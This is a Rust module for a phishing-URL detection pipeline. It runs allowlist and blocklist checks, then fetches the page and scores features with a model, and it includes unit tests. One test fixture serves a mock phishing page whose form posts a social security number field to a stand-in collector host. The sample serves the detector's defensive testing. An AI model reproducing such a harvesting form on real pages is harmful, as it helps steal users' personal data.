//! Decision pipeline
//!
//! Orders the checks that produce a verdict for one URL. The allowlist is
//! consulted first and beats everything else, including a blocklist hit on
//! the same hostname. The blocklist is checked with two exact keys, the full
//! URL and the bare hostname. Only URLs that survive both lists are fetched
//! and scored; a site that never answers is treated as phishing rather than
//! scored on partial data.

use std::sync::Arc;

use sqlx::SqlitePool;

use crate::error::{AppError, AppResult};
use crate::logic::allowlist;
use crate::logic::blocklist::BlocklistEntry;
use crate::logic::features::{url::canonical_hostname, Extractor};
use crate::logic::model::Scorer;
use crate::logic::verdict::Verdict;

// ============================================================
// Pipeline
// ============================================================

/// Shared pieces the classification flow needs per request.
pub struct Pipeline {
    pool: SqlitePool,
    extractor: Extractor,
    scorer: Arc<dyn Scorer>,
}

impl Pipeline {
    pub fn new(pool: SqlitePool, extractor: Extractor, scorer: Arc<dyn Scorer>) -> Self {
        Self {
            pool,
            extractor,
            scorer,
        }
    }

    /// Classify one URL.
    ///
    /// Empty or unparsable input is a client error; everything past that
    /// point produces a verdict. Stage order is load-bearing: allowlist,
    /// blocklist, extraction, model.
    pub async fn classify(&self, url: &str) -> AppResult<Verdict> {
        if url.is_empty() {
            return Err(AppError::ValidationError("URL not provided".to_string()));
        }

        let Some(hostname) = canonical_hostname(url) else {
            return Err(AppError::ValidationError(
                "Could not parse hostname from provided URL".to_string(),
            ));
        };

        let verdict = if allowlist::is_allowlisted(&hostname) {
            Verdict::allowlisted(url)
        } else if self.on_blocklist(url, &hostname).await? {
            Verdict::blocklisted(url)
        } else {
            match self.extractor.extract(url).await {
                None => {
                    return Err(AppError::ValidationError(
                        "Could not parse hostname from provided URL".to_string(),
                    ))
                }
                Some(extraction) if extraction.is_degraded() => Verdict::unresponsive(url),
                Some(extraction) => {
                    let probabilities = self.scorer.score(&extraction.vector)?;
                    Verdict::from_model(url, &extraction.vector, probabilities)
                }
            }
        };

        log_verdict(&verdict);
        Ok(verdict)
    }

    /// Exact-match lookup under both keys the ingest pipeline stores.
    async fn on_blocklist(&self, url: &str, hostname: &str) -> Result<bool, sqlx::Error> {
        if BlocklistEntry::lookup(&self.pool, hostname).await?.is_some() {
            return Ok(true);
        }
        Ok(BlocklistEntry::lookup(&self.pool, url).await?.is_some())
    }
}

// ============================================================
// Verdict logging
// ============================================================

fn log_verdict(verdict: &Verdict) {
    tracing::info!("------------------------------------------------------------");
    tracing::info!("🔎 Analyzing URL: {}", verdict.url);
    if verdict.is_on_blocklist {
        tracing::info!("❗️ Pre-check Result: PHISHING (Found on blocklist)");
    }
    if verdict.model_analysis_skipped {
        match verdict.reason.as_deref() {
            Some(reason) => {
                tracing::info!("🤖 Machine Learning Model Analysis: SKIPPED ({})", reason)
            }
            None => tracing::info!("🤖 Machine Learning Model Analysis: SKIPPED"),
        }
        tracing::info!("------------------------------------------------------------");
        return;
    }

    tracing::info!("🤖 Machine Learning Model Analysis:");
    tracing::info!(" - Probability of Phishing: {}", verdict.probability_phishing);
    if verdict.is_phishing {
        tracing::info!(" Result: Phishing");
        if verdict.risky_features.is_empty() {
            tracing::info!(" - Verdict based on combined factors.");
        } else {
            tracing::info!(" Reasoning (Phishing features detected):");
            for feature in &verdict.risky_features {
                tracing::info!("  - {}", feature);
            }
        }
    } else {
        tracing::info!(
            " - Probability of Legitimate: {}",
            verdict.probability_legitimate
        );
        tracing::info!(" Result: Benign");
        if !verdict.safe_features.is_empty() {
            tracing::info!(" Reasoning (Benign features detected):");
            for feature in verdict.safe_features.iter().take(5) {
                tracing::info!("  - {}", feature);
            }
        }
    }
    tracing::info!("------------------------------------------------------------");
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::db;
    use crate::logic::features::{FeatureVector, DEFAULT_FETCH_TIMEOUT_SECS};
    use crate::logic::model::{ClassProbabilities, ScoringError};
    use axum::{response::Html, routing::get, Router};
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::time::Duration;

    struct StubScorer {
        phishing: f32,
        called: Arc<AtomicBool>,
    }

    impl Scorer for StubScorer {
        fn score(&self, _vector: &FeatureVector) -> Result<ClassProbabilities, ScoringError> {
            self.called.store(true, Ordering::SeqCst);
            Ok(ClassProbabilities {
                legitimate: 1.0 - self.phishing,
                phishing: self.phishing,
            })
        }
    }

    struct FailingScorer;

    impl Scorer for FailingScorer {
        fn score(&self, _vector: &FeatureVector) -> Result<ClassProbabilities, ScoringError> {
            Err(ScoringError("no probability output".to_string()))
        }
    }

    async fn test_pool() -> (SqlitePool, tempfile::TempDir) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("verdicts.db");
        let pool = db::create_pool(path.to_str().unwrap()).await.unwrap();
        db::run_migrations(&pool).await.unwrap();
        (pool, dir)
    }

    async fn seed_entry(pool: &SqlitePool, url: &str) {
        sqlx::query("INSERT OR IGNORE INTO entries (url, source, last_seen) VALUES (?1, ?2, ?3)")
            .bind(url)
            .bind("seed")
            .bind("2024-01-01T00:00:00Z")
            .execute(pool)
            .await
            .unwrap();
    }

    fn pipeline(pool: SqlitePool, scorer: Arc<dyn Scorer>) -> Pipeline {
        let extractor = Extractor::new(Duration::from_secs(DEFAULT_FETCH_TIMEOUT_SECS));
        Pipeline::new(pool, extractor, scorer)
    }

    async fn serve_page(body: &'static str) -> String {
        let app = Router::new().route("/*path", get(move || async move { Html(body) }));
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            axum::serve(listener, app).await.unwrap();
        });
        format!("http://{}", addr)
    }

    #[tokio::test]
    async fn allowlist_wins_over_blocklist_and_model() {
        let (pool, _dir) = test_pool().await;
        seed_entry(&pool, "www.google.com").await;
        seed_entry(&pool, "https://www.google.com/account").await;

        let called = Arc::new(AtomicBool::new(false));
        let scorer = Arc::new(StubScorer {
            phishing: 0.99,
            called: called.clone(),
        });
        let verdict = pipeline(pool, scorer)
            .classify("https://www.google.com/account")
            .await
            .unwrap();

        assert!(!verdict.is_phishing);
        assert!(verdict.matched_allowlist);
        assert!(verdict.model_analysis_skipped);
        assert_eq!(verdict.reason.as_deref(), Some("On Allowlist"));
        assert_eq!(verdict.probability_legitimate, "100.00%");
        assert!(!called.load(Ordering::SeqCst));
    }

    #[tokio::test]
    async fn blocklist_full_url_match_skips_fetch_and_model() {
        let (pool, _dir) = test_pool().await;
        seed_entry(&pool, "http://blocked.test/path").await;

        let called = Arc::new(AtomicBool::new(false));
        let scorer = Arc::new(StubScorer {
            phishing: 0.0,
            called: called.clone(),
        });
        let verdict = pipeline(pool, scorer)
            .classify("http://blocked.test/path")
            .await
            .unwrap();

        assert!(verdict.is_phishing);
        assert!(verdict.is_on_blocklist);
        assert!(verdict.model_analysis_skipped);
        assert_eq!(verdict.risky_features, vec!["Found on blocklist"]);
        assert_eq!(verdict.probability_phishing, "100.00%");
        assert!(!called.load(Ordering::SeqCst));
    }

    #[tokio::test]
    async fn blocklist_matches_on_hostname_key() {
        let (pool, _dir) = test_pool().await;
        seed_entry(&pool, "phish.example").await;

        let called = Arc::new(AtomicBool::new(false));
        let scorer = Arc::new(StubScorer {
            phishing: 0.0,
            called: called.clone(),
        });
        let verdict = pipeline(pool, scorer)
            .classify("http://phish.example/landing?step=2")
            .await
            .unwrap();

        assert!(verdict.is_on_blocklist);
        assert!(!called.load(Ordering::SeqCst));
    }

    #[tokio::test]
    async fn unreachable_site_fails_closed() {
        let (pool, _dir) = test_pool().await;

        let called = Arc::new(AtomicBool::new(false));
        let scorer = Arc::new(StubScorer {
            phishing: 0.0,
            called: called.clone(),
        });
        let verdict = pipeline(pool, scorer)
            .classify("http://127.0.0.1:1/login")
            .await
            .unwrap();

        assert!(verdict.is_phishing);
        assert!(!verdict.is_on_blocklist);
        assert!(verdict.model_analysis_skipped);
        assert_eq!(verdict.reason.as_deref(), Some("Site unresponsive"));
        assert_eq!(
            verdict.risky_features,
            vec!["Site is unresponsive or blocked connections."]
        );
        assert!(!called.load(Ordering::SeqCst));
    }

    #[tokio::test]
    async fn model_verdict_phishing_reports_nonzero_features() {
        let base = serve_page(
            r#"<html><body>
                <p>Please verify your account password</p>
                <form action="http://collector.example/steal"><input name="ssn"></form>
            </body></html>"#,
        )
        .await;
        let (pool, _dir) = test_pool().await;

        let called = Arc::new(AtomicBool::new(false));
        let scorer = Arc::new(StubScorer {
            phishing: 0.9,
            called: called.clone(),
        });
        let verdict = pipeline(pool, scorer)
            .classify(&format!("{}/login/verify", base))
            .await
            .unwrap();

        assert!(verdict.is_phishing);
        assert!(!verdict.model_analysis_skipped);
        assert_eq!(verdict.probability_phishing, "90.00%");
        assert_eq!(verdict.probability_legitimate, "10.00%");
        assert!(called.load(Ordering::SeqCst));
        assert!(verdict.risky_features.contains(&"IpAddress".to_string()));
        assert!(verdict
            .risky_features
            .contains(&"NumSensitiveWords".to_string()));
        assert!(verdict
            .risky_features
            .contains(&"InsecureForms".to_string()));
        assert_eq!(
            verdict.risky_features.len() + verdict.safe_features.len(),
            32
        );
    }

    #[tokio::test]
    async fn model_verdict_benign_below_threshold() {
        let base = serve_page("<html><body>plain page</body></html>").await;
        let (pool, _dir) = test_pool().await;

        let called = Arc::new(AtomicBool::new(false));
        let scorer = Arc::new(StubScorer {
            phishing: 0.2,
            called: called.clone(),
        });
        let verdict = pipeline(pool, scorer)
            .classify(&format!("{}/index", base))
            .await
            .unwrap();

        assert!(!verdict.is_phishing);
        assert_eq!(verdict.probability_phishing, "20.00%");
        assert_eq!(verdict.probability_legitimate, "80.00%");
        assert!(called.load(Ordering::SeqCst));
    }

    #[tokio::test]
    async fn empty_url_is_a_client_error() {
        let (pool, _dir) = test_pool().await;
        let scorer = Arc::new(StubScorer {
            phishing: 0.0,
            called: Arc::new(AtomicBool::new(false)),
        });

        let err = pipeline(pool, scorer).classify("").await.unwrap_err();
        match err {
            AppError::ValidationError(msg) => assert_eq!(msg, "URL not provided"),
            other => panic!("unexpected error: {:?}", other),
        }
    }

    #[tokio::test]
    async fn unparsable_url_is_a_client_error() {
        let (pool, _dir) = test_pool().await;
        let scorer = Arc::new(StubScorer {
            phishing: 0.0,
            called: Arc::new(AtomicBool::new(false)),
        });
        let pipeline = pipeline(pool, scorer);

        for bad in ["http://", "   "] {
            let err = pipeline.classify(bad).await.unwrap_err();
            match err {
                AppError::ValidationError(msg) => {
                    assert_eq!(msg, "Could not parse hostname from provided URL")
                }
                other => panic!("unexpected error: {:?}", other),
            }
        }
    }

    #[tokio::test]
    async fn scorer_failure_surfaces_as_error() {
        let base = serve_page("<html><body>ok</body></html>").await;
        let (pool, _dir) = test_pool().await;

        let err = pipeline(pool, Arc::new(FailingScorer))
            .classify(&format!("{}/page", base))
            .await
            .unwrap_err();
        assert!(matches!(err, AppError::ScoringError(_)));
    }
}
